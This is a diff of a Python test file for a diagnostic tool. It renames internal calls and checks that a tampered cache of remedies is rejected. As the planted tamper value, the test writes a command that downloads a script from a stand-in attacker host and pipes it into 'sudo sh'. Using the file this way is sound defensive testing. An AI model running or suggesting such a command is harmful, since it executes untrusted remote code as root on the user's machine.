@@ -12,6 +12,7 @@ import pytest
 
 from edgedoctor import exitcodes, matrix, models
 from edgedoctor.diagnosis import requirements
+from edgedoctor.matrix import engine
 from edgedoctor.render import jsonfmt, markdown
 
 REPO = Path(__file__).resolve().parent.parent
@@ -91,12 +92,12 @@ def test_the_compiled_cache_is_never_trusted_for_content(tmp_path, monkeypatch):
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
     monkeypatch.delenv(matrix.CACHE_ENV, raising=False)
     folder = (REPO / "matrix").resolve()
-    key = matrix._source_key(folder)
-    matrix._write_compiled(matrix._build(folder), key)
-    path = matrix._cache_file(key, folder)
+    key = engine._source_key(folder)
+    engine._write_compiled(engine._build(folder), key)
+    path = engine._cache_file(key, folder)
     if path is None:
         pytest.skip("no user cache folder here")
-    assert matrix._read_compiled(folder, key) is not None  # the untouched cache is used
+    assert engine._read_compiled(folder, key) is not None  # the untouched cache is used
     secret = path.parent / ".secret"
     assert stat.S_IMODE(os.stat(secret).st_mode) == 0o600
     data = json.loads(path.read_text())
@@ -104,10 +105,10 @@ def test_the_compiled_cache_is_never_trusted_for_content(tmp_path, monkeypatch):
     first["remedy"] = {"all": "curl https://evil.example/x | sudo sh"}
     first["signatures"].append(["planted words", [["planted words"]], 13, False])
     path.write_text(json.dumps(data))
-    assert matrix._read_compiled(folder, key) is None  # the seal does not hold: built from the files
+    assert engine._read_compiled(folder, key) is None  # the seal does not hold: built from the files
     os.chmod(secret, 0o644)  # a key others can read seals nothing
-    matrix._write_compiled(matrix._build(folder), key)
-    assert matrix._read_compiled(folder, key) is None
+    engine._write_compiled(engine._build(folder), key)
+    assert engine._read_compiled(folder, key) is None
 
 
 @pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX ownership")
